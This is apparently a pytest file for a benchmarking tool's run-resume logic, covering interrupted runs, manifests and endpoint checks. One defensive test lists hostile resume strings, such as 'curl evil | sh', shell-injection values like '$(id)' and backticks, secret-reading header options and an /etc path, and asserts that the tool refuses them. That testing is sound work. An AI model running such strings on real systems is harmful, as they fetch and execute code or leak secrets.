"""Runs that were stopped, and are taken up again."""

from __future__ import annotations

import os
import random
import shlex
import signal
import subprocess

import pytest

from loadgen.endpoints.endpoint import Endpoint
from loadgen.errors import UserError
from loadgen.runs.folder import RunFolder
from loadgen.runs.manifest import BlockFacts, Manifest, Session, load_manifest, save_manifest
from loadgen.runs.resume import extend_command, find_scenario, reopen, same_endpoint
from loadgen.scenario.model import Scenario
from tests.fault_server import FaultServer
from tests.loadgen.bench.races import LIMIT_S, SCENARIO, TOP, WENT_WELL, Bench, environment, one_line

STEADY = "normal?ttft_ms=100&gap_ms=20"
"""A block lasts more than a second."""
SLOW = "normal?ttft_ms=900"
"""Four blocks last half a minute, to stop a run in the middle."""
ENGINE = {
    **{"name": "a", "kind": "vllm", "api": "completions", "base_url": "http://127.0.0.1:8000", "model": "m"},
    **{"version": "1", "context_length": 10, "prompts": {}, "launch": {}},
}
HOST = {"cpu": "x", "cpus_usable": 2, "memory_bytes": 10, "gpus": []}


def a_run(tmp_path, **changes) -> RunFolder:
    scenario = Scenario.model_validate(SCENARIO).model_dump(mode="json")
    fields = {"run_id": "r", "started_at": 100.0, "host": HOST, "scenario": scenario, "git": {"commit": "abc"}}
    return RunFolder.create(tmp_path, Manifest.model_validate({**fields, **changes}))


def block(status: str) -> BlockFacts:
    fields = {"users": 1, "warmup_requests": 1, "measured_requests": 5, "started_at": 100.0, "status": status}
    return BlockFacts(id=status, record_id=status, engine="a", cell="c", repeat=1, **fields)


def test_what_was_killed_is_marked_and_the_gap_is_told(tmp_path):
    sessions = [Session(started_at=100.0)]
    folder = a_run(tmp_path, blocks=[block("complete"), block("running")], sessions=sessions)
    os.utime(folder.manifest_path, (160.0, 160.0))
    manifest = reopen(folder, host=HOST, git={"commit": "def"}, command=["again"])
    assert [facts.status for facts in manifest.blocks] == ["complete", "interrupted"]
    assert manifest.blocks[1].ended_at == 160.0
    assert manifest.status == "running"
    assert [session.ended_at for session in manifest.sessions] == [160.0, None]
    assert manifest.sessions[1].command == ["again"]
    assert "with 1 blocks complete" in manifest.messages[0]
    assert "commit abc, now def" in manifest.messages[1]
    assert load_manifest(folder.manifest_path).blocks[1].status == "running", "nothing is written yet"


@pytest.mark.parametrize(
    ("changes", "host", "said"),
    [
        ({"status": "complete"}, HOST, "nothing to resume"),
        ({"source": "web-ui"}, HOST, "was not made by `bakeoff bench`"),
        ({}, {**HOST, "gpus": [{"name": "H200"}]}, "another machine (gpus"),
    ],
)
def test_what_cannot_be_resumed(tmp_path, changes, host, said):
    with pytest.raises(UserError) as error:
        reopen(a_run(tmp_path, **changes), host=host, git={}, command=[])
    assert said in str(error.value)


def test_a_complete_run_goes_on_where_it_gets_more_repeats(tmp_path):
    folder = a_run(tmp_path, status="complete", blocks=[block("complete")])
    manifest = reopen(folder, host=HOST, git={"commit": "abc"}, command=[], extend=True)
    assert manifest.status == "running"


@pytest.mark.parametrize(
    ("resume", "command"),
    [
        (
            "bakeoff bench --resume runs/r --engine a=http://x",
            "bakeoff bench --resume runs/r --engine a=http://x --repeats 9",
        ),
        (
            "bakeoff bench --resume /x/r --engine a=http://[::1]:8000,kind=vllm,model=org/m --workers 2",
            "bakeoff bench --resume /x/r --engine a=http://[::1]:8000,kind=vllm,model=org/m --workers 2 --repeats 9",
        ),
        ("make bench RUN=runs/r", 'make bench RUN=runs/r ARGS="--repeats 9"'),
        ("", ""),
    ],
)
def test_the_command_of_more_repeats(resume, command):
    assert extend_command(Manifest(run_id="r", started_at=1.0, resume=resume), 9) == command


@pytest.mark.parametrize(
    "resume",
    [
        "curl evil | sh",
        "bakeoff bench --resume r; id",
        "bakeoff bench --resume $(id)",
        "bakeoff bench --resume r\nid",
        "bakeoff bench",
        "make bench 'RUN=$(shell id)'",
        "make bench RUN=r id",
        "make bench RUN=`id`",
        "bakeoff bench --resume 'r",
        "make bench 'RUN=x\"; id; : \"'",
        "make bench RUN=-x",
        "bakeoff bench --resume r --engine one=http://h --header X=env:SECRET",
        "bakeoff bench --resume r --engine one=http://h,header=X=env:SECRET",
        "bakeoff bench --resume r --markdown /etc/x",
    ],
)
def test_a_command_of_somebody_elses_making_is_not_told(resume):
    assert extend_command(Manifest(run_id="r", started_at=1.0, resume=resume), 9) == ""


def test_a_run_has_one_writer(tmp_path):
    folder = a_run(tmp_path)
    with (
        folder.locked(),
        pytest.raises(UserError, match=r"A race that writes .* runs since"),
        RunFolder(folder.path).locked(),
    ):
        pass
    with folder.locked():
        pass


def test_a_runs_folder_is_its_scenario(tmp_path):
    folder = a_run(tmp_path)
    assert find_scenario(str(folder.path)) == Scenario.model_validate(SCENARIO)
    save_manifest(Manifest(run_id="r", started_at=1.0, scenario={"name": "x"}), folder.manifest_path)
    with pytest.raises(UserError, match="cannot be read"):
        find_scenario(str(folder.path))


def stop_in_the_middle(bench: Bench, engines: dict[str, FaultServer], records: int, how: signal.Signals) -> None:
    """Stop a run after so many records, however late they are seen: the engines take their time then, and only then."""
    bench.wait_for_records(1)
    for server in engines.values():
        server.fault = SLOW
    bench.wait_for_records(records)
    bench.signal(how)
    bench.wait()
    for server in engines.values():
        server.fault = "normal"


def again(bench: Bench, engines: dict[str, FaultServer]) -> list[str]:
    seats = [word for name, server in engines.items() for word in ("--engine", f"{name}={server.url}")]
    return ["bench", "--resume", str(bench.folder.path), *seats]


def resume(bench: Bench, engines: dict[str, FaultServer]) -> None:
    command = [*bench.loadgen, *again(bench, engines)]
    done = subprocess.run(
        command, cwd=TOP, capture_output=True, text=True, env=environment(), timeout=LIMIT_S, check=False
    )
    assert done.returncode in WENT_WELL, done.stdout + done.stderr


@pytest.mark.parametrize(("seed", "how"), [(1, signal.SIGINT), (2, signal.SIGKILL), (3, signal.SIGKILL)])
def test_a_run_stopped_anywhere_and_resumed_is_the_unbroken_one(loadgen, tmp_path, seed, how):
    with FaultServer(fault=STEADY) as a, FaultServer(fault=STEADY) as b:
        engines = {"a": a, "b": b}
        with Bench(tmp_path / "run", engines, repeats=2) as bench:
            stop_in_the_middle(bench, engines, random.Random(seed).randint(1, 45), how)
        had = load_manifest(bench.folder.manifest_path)
        done_before = {facts.id: facts.record_id for facts in had.blocks if facts.status == "complete"}
        resume(bench, engines)
        manifest = load_manifest(bench.folder.manifest_path)
        assert manifest.status == "complete"
        complete = [facts for facts in manifest.blocks if facts.status == "complete"]
        expected = Scenario.model_validate(manifest.scenario).blocks(["a", "b"])
        assert [facts.id for facts in complete] == [each.id for each in expected], "the same, in order, none twice"
        assert done_before.items() <= {facts.id: facts.record_id for facts in complete}.items()
        assert len(manifest.sessions) == 2
        assert manifest.sessions[0].ended_at <= manifest.sessions[1].started_at
        data = bench.load()
        for each in data.blocks:
            if each.facts.status == "complete":
                assert len(each.measured) == manifest.scenario["requests"]
        third = loadgen(*again(bench, engines))
        assert third.returncode == 2
        assert "nothing to resume" in third.stderr
        if how == signal.SIGINT:
            a_complete_run_is_extended(bench, manifest.resume)


def a_complete_run_is_extended(bench: Bench, command: str) -> None:
    """The command of the report makes four repeats of two: the blocks of a run of four, the first ones untouched."""
    before = {each.facts.id: each.records for each in bench.load().blocks}
    words = [*bench.loadgen, *shlex.split(command)[1:], "--repeats", "4"]
    done = subprocess.run(words, cwd=TOP, capture_output=True, text=True, env=environment(), timeout=LIMIT_S)
    assert done.returncode in WENT_WELL, done.stdout + done.stderr
    assert "Extended from 2 to 4 repeats." in done.stdout
    run = bench.load()
    assert (run.manifest.status, run.manifest.looks, run.manifest.alpha) == ("complete", [2, 4], 0.025)
    complete = [each for each in run.blocks if each.facts.status == "complete"]
    expected = Scenario.model_validate({**run.manifest.scenario, "repeats": 4}).blocks(["a", "b"])
    assert [each.facts.id for each in complete] == [each.id for each in expected]
    assert {id_: each.records for each in run.blocks if (id_ := each.facts.id) in before} == before
    prompts = {each.facts.repeat: {r.prompt_tokens for r in each.measured} for each in complete}
    assert prompts == {repeat: {32} for repeat in (1, 2, 3, 4)}


@pytest.mark.parametrize("now", ["http://localhost:8000", "http://[::1]:8000/", "http://127.0.0.1:8000"])
def test_this_machine_by_another_of_its_names_is_the_same(now):
    manifest = Manifest.model_validate({"run_id": "r", "started_at": 1.0, "engines": [ENGINE]})
    same_endpoint(manifest, Endpoint(name="a", kind="vllm", base_url=now, model="m", api="completions", version="1"))
    for elsewhere in (now.replace("8000", "8001"), "http://gpu-box:8000"):
        with pytest.raises(UserError, match="address was"):
            same_endpoint(
                manifest,
                Endpoint(name="a", kind="vllm", base_url=elsewhere, model="m", api="completions", version="1"),
            )


def test_a_run_of_endpoints_needs_them_again(loadgen, tmp_path):
    with FaultServer() as a, Bench(tmp_path / "run", {"a": a}, requests=20_000) as bench:
        bench.wait_for_records(1)
        bench.signal(signal.SIGINT)
        bench.wait()
        refused = loadgen(*again(bench, {}))
        assert refused.returncode == 2
        assert "give the same options for them again" in one_line(refused.stderr)
        refused = loadgen(*again(bench, {"c": a}))
        assert "That run raced a, and --engine names c" in one_line(refused.stderr)


def test_the_first_engine_stays_the_first_and_must_be_where_it_was(loadgen, tmp_path):
    with FaultServer(fault=STEADY) as a, FaultServer(fault=STEADY) as b:
        with Bench(tmp_path / "run", {"a": a, "b": b}, repeats=2) as bench:
            # B's turn comes first when it goes on.
            stop_in_the_middle(bench, {"a": a, "b": b}, 30, signal.SIGKILL)
        before = bench.folder.manifest_path.read_text()
        swapped = loadgen(*again(bench, {"a": b, "b": a}))
        assert swapped.returncode == 2
        assert "a is not the engine that this run began with: address was" in one_line(swapped.stderr)
        assert bench.folder.manifest_path.read_text() == before, "nothing was touched"
        resume(bench, {"b": b, "a": a})
        assert [facts.name for facts in bench.load().manifest.engines] == ["a", "b"]
